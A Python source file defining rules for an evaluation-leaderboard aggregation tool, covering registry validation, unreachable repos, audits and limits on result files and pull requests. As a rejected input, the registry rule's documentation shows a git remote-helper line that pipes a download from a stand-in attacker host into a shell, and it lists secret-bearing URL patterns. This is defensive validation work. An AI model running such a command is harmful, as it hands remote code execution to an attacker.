"""Rules ``evalledger aggregate`` reports under its own ids (the rule catalogue merges them).

Entries that cannot become leaderboard rows are reported under lint's ids (``value-not-number``,
``value-not-finite``, ``task-id-unknown``, ``value-out-of-bounds``, ``yaml-syntax``...): they are the
same checks, so they are documented once, as lint rules. Only what exists because of aggregation
-- the model registry, fetching model repos, auditing their history -- is defined here.
"""

from __future__ import annotations

from evalledger.finding import ERROR, WARNING
from evalledger.rule import Rule

REGISTRY_INVALID = Rule(
    "registry-invalid",
    ERROR,
    "a model registry line or entry cannot be used",
    """\
Flags a line of the `--models` registry that is not `URL-or-path [ref] [model-id]` (too many
fields, a model id with spaces), a URL with an unsupported scheme or a remote helper (`ext::`,
`fd::`), an argument-like URL (`-…`), a URL with credentials (`https://user:token@host/…`, a query
or fragment parameter named like a secret such as `?token=`, `access_token=`, `api_key=`,
`X-Amz-Signature=`, or a token such as `hf_…` anywhere; shown masked, never echoed), an invalid
git ref name, and for a YAML registry an entry that is not a URL or a `{url, ref, model}` mapping,
unknown keys, or a registry that cannot be read. The run stops (exit 2) before anything is fetched
or written.

Why it matters: silently skipping a line with a typo would drop that model's rows and commit
their removal from the leaderboard; a remote helper or an option-like URL would let a registry
line run commands on the machine that aggregates; a registry URL is published (the tables, the
JSON result, the job summary) and kept in the cache's git config, so a token in it leaks.

Bad (`models.txt`):
```text
https://huggingface.co/org/model main org/model extra-field
ext::sh -c "curl evil.example | sh"
https://user:hf_xxxxxxxx@huggingface.co/meta-llama/Llama-3.1-8B
```
Fixed (the token goes in `HF_TOKEN`, sent only to the Hub):
```text
https://huggingface.co/org/model  main  org/model
https://huggingface.co/meta-llama/Llama-3.1-8B
```""",
    command="aggregate",
)

REGISTRY_DUPLICATE = Rule(
    "registry-duplicate",
    WARNING,
    "a model repo is listed twice in the registry",
    """\
Flags a registry entry with the same repo, ref and model id as an earlier one (across all
`--models` files); it is read once.

Why it matters: usually a merge leftover or a copy-paste; when the second line was meant to
differ (another ref, another model id) the intended source is missing from the board.

Bad:
```text
https://huggingface.co/org/model  -  org/model
https://huggingface.co/org/model  -  org/model
```
Fixed (the second line was meant to pin a release branch):
```text
https://huggingface.co/org/model  -        org/model
https://huggingface.co/org/model  release  org/model-release
```""",
    command="aggregate",
)

MODEL_REPO_UNREACHABLE = Rule(
    "model-repo-unreachable",
    WARNING,
    "a model repo could not be fetched; its last known rows are kept, marked stale",
    """\
Flags a model repo of the registry that could not be fetched this run: the host is down, the repo
was moved, deleted or made private, the ref no longer exists, or the fetch timed out. The other
repos are aggregated as usual. When the host asked for credentials (HTTP 401/403), the message
says what to do: for the Hub, that the repo is gated or private and a token is needed in
`HF_TOKEN` (or the `--token-env` variable), or that the token given was not accepted; for other
hosts, to configure a git credential helper. The repo's rows from the previous tables (the committed
`candidates` table) are kept unchanged with `stale: true`, and compete as they did when last
read, until the repo can be fetched again or is removed from the registry; `--drop-unreachable`
leaves them out instead. `--strict` turns this warning into exit code 1.

Why it matters: without the mark, a short outage of one host would commit the removal of that
model's scores and the next run would add them back: churn, and a history that says the scores
were withdrawn when they were not. A row that stays stale for long points at a registry entry
that needs fixing.

Bad (`models.txt`, the repo was renamed on the Hub):
```text
https://huggingface.co/old-org/model  -  old-org/model
```
Fixed:
```text
https://huggingface.co/new-org/model  -  new-org/model
```""",
    command="aggregate",
)

AUDIT_UNAVAILABLE = Rule(
    "audit-unavailable",
    WARNING,
    "a model repo's result history could not be audited",
    """\
Flags a model repo whose history of `.eval_results` could not be fetched or judged by
`aggregate --audit` (fetch error, timeout, an error of the audit itself), or is over a bound of
what an audit fetches (more than 10,000 commits, more than 10,000 versions of result files and
model cards, one of them over 2 MiB, a clone over 256 MiB: the message names the repo and the
bound); it is a row of the `flags` table. The repo's leaderboard rows are kept, without audit
marks.

Why it matters: a row without flags normally means its history was checked and found clean; for
this repo it means nothing was checked, and readers of the board should know the difference.

Bad (a model repo with a long history does not clone in 20 seconds):
```yaml
- run: evalledger aggregate --models models.txt --audit --timeout 20
```
Fixed:
```yaml
- run: evalledger aggregate --models models.txt --audit --timeout 600
```""",
    command="aggregate",
)

TOO_MANY_RESULT_FILES = Rule(
    "too-many-result-files",
    ERROR,
    "a model repo's ref holds more result files than aggregate reads",
    """\
Flags a ref of a model repo (or a submission folder) whose `.eval_results/` holds more result files
(`*.yaml`, `*.yml`) than `aggregate --max-result-files` (default 1000): none of its files is
fetched or read, and its results are a rejected result (`rejected` in the JSON result, `--strict`
exits 1), naming the repo, the ref, the count and the limit. The repo's other refs (its merged
branch when the flood is in a pull request) are read as usual.

Why it matters: everything a model repo holds is untrusted; 100,000 result files would make every
aggregation fetch, parse and hold them all. The whole ref is refused rather than its first N
files: which N those are would depend on file names the repo chooses, and a partial read would
publish some of a model's scores as if they were all of them.

Bad (one file per sample):
```text
.eval_results/sample-000001.yaml
.eval_results/sample-000002.yaml
...
.eval_results/sample-100000.yaml
```
Fixed (one file per benchmark, each entry a task's aggregate score):
```text
.eval_results/gpqa.yaml
.eval_results/mmlu-pro.yaml
```""",
    command="aggregate",
)

TOO_MANY_PULL_REQUESTS = Rule(
    "too-many-pull-requests",
    WARNING,
    "a model repo has more pull-request refs than aggregate reads",
    """\
Flags a model repo that, with `aggregate --include-pull-requests`, has more pull-request refs
(`refs/pull/*/head`, `refs/pr/*`) than `--max-pull-requests` (default 100): the highest-numbered
ones, that many, are read as usual; the older ones are not fetched or read. One rejected result
(`rejected` in the JSON result, `--strict` exits 1) names the repo, the count, the limit and the
newest pull request left out (its `ref`).

Why it matters: anyone can open a pull request on a Hub model repo, and a GitHub repo keeps the
refs of closed ones; each ref may hold up to `--max-result-files` result files, so an unbounded
number of them would make every aggregation fetch and parse without end. The newest by number
are kept because the host numbers pull requests in the order they were opened (a commit date is
whatever its author wrote), and the choice depends on the refs alone: the same repo state gives
the same tables.

Bad: a model repo with 5,000 pull-request refs, or a script that opens one per sample.

Fixed: close (Hub) or delete the refs of stale pull requests, or raise the limit:
```yaml
- run: evalledger aggregate --models models.txt --include-pull-requests --max-pull-requests 500
```""",
    command="aggregate",
)

RULES: dict[str, Rule] = {
    rule.id: rule
    for rule in (
        REGISTRY_INVALID,
        REGISTRY_DUPLICATE,
        MODEL_REPO_UNREACHABLE,
        AUDIT_UNAVAILABLE,
        TOO_MANY_RESULT_FILES,
        TOO_MANY_PULL_REQUESTS,
    )
}
